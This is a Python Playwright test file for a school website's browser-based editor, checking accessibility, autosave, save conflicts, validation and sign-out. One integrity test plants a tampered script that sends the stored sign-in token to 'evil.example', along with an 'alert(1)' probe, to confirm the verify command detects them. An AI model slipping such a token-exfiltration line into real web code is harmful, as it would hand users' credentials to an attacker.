"""The editor's pages: everybody can use them on a telephone, nothing typed is lost, and parents' pages do not know them."""

from __future__ import annotations

import re
import shutil
from typing import TYPE_CHECKING, Any, Final

import pytest
from axe_playwright_python.base import AXE_FILE_PATH
from playwright.sync_api import expect

from bookbag.outputs.editor.editor_files import LINK_WORKER
from tests.editor.test_content_files import fields_in
from tests.helpers.browsing import new_page, opened_context, served
from tests.helpers.edited_website import EditedWebsite
from tests.helpers.github_server import GOOD

if TYPE_CHECKING:
    from pathlib import Path

    from playwright.sync_api import Browser, Page

    from tests.conftest import Bookbag

pytestmark = pytest.mark.browser

PLACES: Final[dict[str, tuple[str, ...]]] = {
    "start": ("",),
    "list": ("policy",),
    "policy": ("policy", "policies/complaints.md"),
    "new week": ("week", "new"),
    "new event": ("event", "new"),
    "newsletter": ("newsletter", "docs/newsletters/2026-10-16.md"),
    "setting": ("setting", "setting.yml"),
    "reviews": ("review",),
    "review": ("review", "policies/home-languages.md"),
    "closure": ("closure",),
    "device": ("device",),
}
WAYS: Final = (
    {"viewport": {"width": 320, "height": 640}, "color_scheme": "light"},
    pytest.param({"viewport": {"width": 1280, "height": 900}, "color_scheme": "dark"}, marks=pytest.mark.long),
)
POLICY: Final = "policies/behaviour.md"
SUMMARY: Final = "How we help children to be kind, and what we never do."
LOW: Final = """[...document.querySelectorAll("main a, main button, main input:not(.picker, [hidden]), main select, main summary")]
    .filter((each) => each.offsetParent && each.getBoundingClientRect().height < 24 && !each.closest("p"))
    .map((each) => each.outerHTML)"""
"""What a thumb cannot hit (WCAG 2.2, 2.5.8), links within a sentence excepted."""


@pytest.mark.parametrize("way", WAYS, ids=lambda way: f"{way['viewport']['width']} {way['color_scheme']}")
def test_everybody_can_use_it(website: EditedWebsite, browser: Browser, way: dict[str, Any]) -> None:
    """Every page: axe finds nothing, nothing sticks out, and every box is large enough for a thumb."""
    with opened_context(browser, **way) as context:
        theirs = EditedWebsite(new_page(context), website.address, website.github, website.first)
        theirs.page.goto(f"{theirs.address}admin/")
        theirs.page.get_by_label("Your token").wait_for()
        look(theirs.page, way["viewport"]["width"], "sign in")
        theirs.sign_in()
        for name, place in PLACES.items():
            theirs.open(*place)
            theirs.page.evaluate("document.querySelectorAll('details').forEach((each) => { each.open = true; })")
            look(theirs.page, way["viewport"]["width"], name)


def look(page: Page, width: int, name: str) -> None:
    """Look at one page."""
    if not page.evaluate("typeof axe === 'object'"):
        page.evaluate(AXE_FILE_PATH.read_text("utf-8"))
    found = page.evaluate("axe.run().then((found) => found.violations.map((each) => each.id))")
    assert (name, found) == (name, [])
    assert page.evaluate("document.documentElement.scrollWidth") <= width, name
    assert page.evaluate(LOW) == [], name


def test_every_kind_can_be_opened(website: EditedWebsite) -> None:
    """Its list, its first file, a new one, and the page at an address of the site."""
    website.sign_in()
    for kind in ("policy", "week", "newsletter", "event", "notice", "page"):
        website.open(kind)
        first = website.page.locator("ul.items a").first
        title = first.inner_text()
        first.click()
        expect(website.page.locator("h1")).to_have_text(title)
        expect(website.field("title")).to_have_value(title)
        website.open(kind, "new")
        expect(website.page.locator("h1")).to_contain_text("New:")
    for address, title in (
        ("policies/behaviour", "Behaviour"),
        ("visit", "Come and see us"),
        ("newsletters/2026-10-16", "Conkers & crumble 🌰"),
    ):
        website.page.goto(f"{website.address}admin/#/at/{address}/")
        expect(website.field("title")).to_have_value(title)


def test_what_was_typed_outlives_the_page(website: EditedWebsite) -> None:
    """A telephone closes pages: the words stand in the boxes again, until they are saved or dropped."""
    website.sign_in()
    website.open("policy", POLICY)
    website.fill(SUMMARY, "summary")
    website.page.reload()
    expect(website.field("summary")).to_have_value(SUMMARY)
    expect(website.page.get_by_text("What you typed here before")).to_be_visible()
    website.save()
    assert fields_in(website.file(POLICY))["summary"] == SUMMARY
    website.open("policy", POLICY)
    assert website.page.get_by_text("What you typed here before").count() == 0


def test_a_picture_that_was_not_saved_is_asked_for_again(website: EditedWebsite) -> None:
    """The device keeps words, and no photographs: a page never names a picture that is not there."""
    head = website.github.repository.head()
    website.sign_in()
    website.open("newsletter", "docs/newsletters/2026-11-06.md")
    website.unfold("picture")
    website.fill("pictures/gone.jpg", "picture", "file")
    website.fill("A hat", "picture", "shows")
    website.field("picture", "faces").select_option("none")
    website.page.get_by_role("button", name="Save and publish").click()
    expect(website.page.locator('[data-field="picture"] > fieldset > .problem')).to_contain_text("Choose it again")
    assert website.github.repository.head() == head


def test_words_can_be_dropped(website: EditedWebsite) -> None:
    """Beginning again brings back what the file has."""
    website.sign_in()
    website.open("policy", POLICY)
    before = website.field("summary").input_value()
    website.fill(SUMMARY, "summary")
    website.page.reload()
    website.page.get_by_role("button", name="Begin again without it").click()
    expect(website.field("summary")).to_have_value(before)


def test_two_people_at_once(website: EditedWebsite) -> None:
    """Whoever saves second hears who was first; nothing is saved over, and the words stay in the boxes."""
    website.sign_in()
    website.open("policy", POLICY)
    website.fill(SUMMARY, "summary")
    theirs = website.file(POLICY).replace("title: Behaviour", "title: Behaving well")
    website.github.repository.commit({POLICY: theirs}, who="Ros Carter")
    website.page.get_by_role("button", name="Save and publish").click()
    expect(website.page.locator(".save .said")).to_contain_text("Ros Carter")
    assert website.file(POLICY) == theirs
    expect(website.field("summary")).to_have_value(SUMMARY)


def test_another_page_meanwhile(website: EditedWebsite) -> None:
    """What somebody saved in another file is kept, and does not stand in the way."""
    website.sign_in()
    website.open("policy", POLICY)
    website.fill(SUMMARY, "summary")
    website.github.repository.commit({"docs/visit.md": website.file("docs/visit.md") + "\nCome in.\n"})
    website.save()
    assert website.file("docs/visit.md").endswith("\nCome in.\n")
    assert fields_in(website.file(POLICY))["summary"] == SUMMARY


def test_a_failure_loses_nothing(website: EditedWebsite) -> None:
    """Without a network the words stay, and the same button saves them afterwards."""
    website.sign_in()
    website.open("policy", POLICY)
    website.fill(SUMMARY, "summary")
    website.github.fail("POST .*/git/", 500)
    website.page.get_by_role("button", name="Save and publish").click()
    expect(website.page.locator(".save .said")).to_contain_text("fault of its own")
    website.save()
    assert fields_in(website.file(POLICY))["summary"] == SUMMARY


@pytest.mark.parametrize(
    ("value", "field", "said"),
    [
        ("2026-11-31", "reviewed", "calendar"),
        ("2026-13-01", "reviewed", "calendar"),
        ("2027-01-01", "reviewed", "future"),
        ("soon", "review_by", "not a date"),
        ("", "title", "left empty"),
        ("2020-01-01", "review_by", "comes before"),
    ],
)
def test_what_the_checker_would_refuse_is_not_saved(website: EditedWebsite, value: str, field: str, said: str) -> None:
    """It says so at the box, and goes to it."""
    head = website.github.repository.head()
    website.sign_in()
    website.open("policy", POLICY)
    website.fill(value, field)
    website.page.get_by_role("button", name="Save and publish").click()
    expect(website.page.locator(f'[data-field="{field}"] .problem')).to_contain_text(said)
    expect(website.field(field)).to_be_focused()
    assert website.github.repository.head() == head


def test_a_file_that_cannot_be_read(website: EditedWebsite) -> None:
    """It is in the list and says so; its page names the line; all others can be edited."""
    website.github.repository.commit({"policies/late.md": "---\ntitle: [Late\n---\nWords\n"})
    website.sign_in()
    website.open("policy")
    expect(website.page.locator("li", has_text="late")).to_contain_text("cannot be read")
    website.open("policy", "policies/late.md")
    expect(website.page.get_by_role("alert")).to_contain_text("Line")
    website.open("policy", POLICY)
    expect(website.field("title")).to_have_value("Behaviour")


def test_a_field_in_a_form_without_boxes(website: EditedWebsite) -> None:
    """It stays in the file as it is, and the rest can be changed."""
    odd = website.file(POLICY).replace("title: Behaviour\n", "title: Behaviour\nunknown_to_us: {a: [b, c]}\n")
    odd = re.sub(r"topic: .*\n", "topic: [two, topics]\n", odd)
    website.github.repository.commit({POLICY: odd})
    website.sign_in()
    website.open("policy", POLICY)
    expect(website.page.locator('[data-field="topic"]')).to_contain_text("no boxes here")
    website.fill(SUMMARY, "summary")
    website.save()
    assert fields_in(website.file(POLICY)) == fields_in(odd) | {"summary": SUMMARY}


def test_signing_out(website: EditedWebsite) -> None:
    """Nothing of the token or the words stays on the device."""
    website.sign_in()
    website.open("policy", POLICY)
    website.fill(SUMMARY, "summary")
    website.open("device")
    website.page.get_by_role("button", name="Sign out").click()
    expect(website.page.get_by_label("Your token")).to_be_visible()
    kept = website.page.evaluate("JSON.stringify([localStorage, sessionStorage])")
    assert GOOD not in kept
    assert SUMMARY not in kept


def test_parents_pages_do_not_know_it(built_conker_lane: Path) -> None:
    """No page, sitemap, search index, stylesheet or script of the site names the editor, so none grows by it."""
    ours = {"admin", "committee"}
    files = [
        file for file in built_conker_lane.rglob("*") if file.suffix in {".html", ".xml", ".json", ".css", ".js", ".gz"}
    ]
    others = [
        file for file in files if file.relative_to(built_conker_lane).parts[0] not in ours and file.name != LINK_WORKER
    ]
    assert len(others) > 100
    assert [
        file for file in others if re.search(rb"admin/(?:index|editor|forms)|editing\.js|/admin/", file.read_bytes())
    ] == []


def test_a_site_without_the_editor(
    built_conker_lane: Path, bookbag: Bookbag, conker_lane: Path, tmp_path: Path
) -> None:
    """With its folder deleted everything else is as before, and right."""
    site = tmp_path / "site"
    shutil.copytree(built_conker_lane, site)
    shutil.rmtree(site / "admin")
    done = bookbag(conker_lane, "verify", str(site))
    assert done.exit_code == 0, done.output


def test_another_editor_is_found(built_conker_lane: Path, bookbag: Bookbag, conker_lane: Path, tmp_path: Path) -> None:
    """A script that somebody has changed, or put beside it, would get the tokens of the committee."""
    site = tmp_path / "site"
    shutil.copytree(built_conker_lane, site)
    (site / "admin/editor.js").write_text("fetch('https://evil.example/' + localStorage['bookbag:token'])")
    (site / "admin/more.js").write_text("alert(1)")
    done = bookbag(conker_lane, "verify", str(site))
    assert done.exit_code == 1
    assert "admin/editor.js" in done.output
    assert "admin/more.js" in done.output


def test_without_a_repository_it_says_what_to_write(page: Page, built_conker_lane: Path, tmp_path: Path) -> None:
    """Two lines of setting.yml."""
    site = tmp_path / "site"
    shutil.copytree(built_conker_lane / "admin", site / "admin")
    forms = site / "admin/forms.json"
    forms.write_text(re.sub(r'"repository":\{[^}]*\}', '"repository":null', forms.read_text("utf-8"), count=1), "utf-8")
    for address in served(site):
        page.goto(f"{address}admin/")
        expect(page.get_by_text("repository:")).to_be_visible()


def test_without_the_look_the_words_are_shown(website: EditedWebsite) -> None:
    """Where no page of the site can be had, the preview is plain and says so, and nothing else is missed."""
    website.sign_in()
    website.page.context.route(f"{website.address}policies/**", lambda route: route.abort())
    website.page.context.route(website.address, lambda route: route.fulfill(status=503))
    website.open("policy", POLICY)
    expect(website.page.get_by_text("The look of the website could not be fetched")).to_be_visible()
    expect(website.page.frame_locator("iframe.preview").locator("h1")).to_have_text("Behaviour")


def test_the_text_has_more_to_mend_than_is_shown(website: EditedWebsite) -> None:
    """Eight notes at a time, and how many more there are."""
    website.sign_in()
    website.open("policy", POLICY)
    website.page.get_by_label("The words of the page").fill("<one year>\n\n" * 11)
    notes = website.page.get_by_role("list", name="What to mend in the text").get_by_role("listitem")
    expect(notes).to_have_count(9)
    expect(notes.last).to_have_text("And 3 more, shown when these are mended.")


@pytest.mark.parametrize("status", [None, 503])
def test_without_its_forms_it_says_what_to_do(page: Page, demo_address: str, status: int | None) -> None:
    """Offline or refused: a sentence, not a page that waits for ever."""
    page.route("**/forms.json", lambda route: route.fulfill(status=status) if status else route.abort())
    page.goto(f"{demo_address}admin/")
    expect(page.get_by_role("alert")).to_contain_text("Are you online?")


def test_a_wrong_token_can_be_mended(website: EditedWebsite) -> None:
    """The sentence stands below the box, which is still there, and the wrong token is not kept."""
    website.page.goto(f"{website.address}admin/")
    website.page.get_by_label("Your token").fill(f"{GOOD}x")
    website.page.get_by_role("button", name="Sign in").click()
    expect(website.page.get_by_role("alert")).to_contain_text("expired")
    assert website.page.evaluate("localStorage.length") == 0
    website.page.get_by_label("Your token").fill(GOOD)
    website.page.get_by_role("button", name="Sign in").click()
    expect(website.page.get_by_role("link", name="We have to close")).to_be_visible()
    website.page.reload()
    expect(website.page.get_by_role("link", name="We have to close")).to_be_visible()


def test_a_browser_that_keeps_nothing(website: EditedWebsite) -> None:
    """Somebody has forbidden it: what was typed lasts until the page is left, and that is said."""
    website.page.add_init_script("""for (const name of ["localStorage", "sessionStorage"]) {
        Object.defineProperty(window, name, { get() { throw new DOMException("Forbidden", "SecurityError"); } });
    }""")
    website.sign_in()
    expect(website.page.get_by_text("you will sign in again next time")).to_be_visible()
    website.open("policy", POLICY)
    website.fill(SUMMARY, "summary")
    expect(website.page.get_by_text("save before you close this page")).to_be_visible()
    website.open("policy")
    website.open("policy", POLICY)
    expect(website.field("summary")).to_have_value(SUMMARY)
    website.save()
    assert fields_in(website.file(POLICY))["summary"] == SUMMARY


def test_what_was_saved_is_there_after_loading_again(website: EditedWebsite) -> None:
    """A telephone that goes back to sleep loads the page again, while the check has not answered yet."""
    website.sign_in()
    website.open("policy", POLICY)
    website.fill(SUMMARY, "summary")
    website.save()
    website.page.reload()
    expect(website.page.get_by_role("heading", name="Saved")).to_be_visible()
    expect(website.page.get_by_role("link", name="See the page")).to_have_attribute("href", "../policies/behaviour/")


def test_a_page_that_is_put_together_says_so(website: EditedWebsite) -> None:
    """From the register of policies "Edit this page" leads to all there is to edit, and that is explained."""
    website.sign_in()
    website.page.goto(f"{website.address}admin/#/at/policies/")
    expect(website.page.get_by_text("put together from others")).to_be_visible()
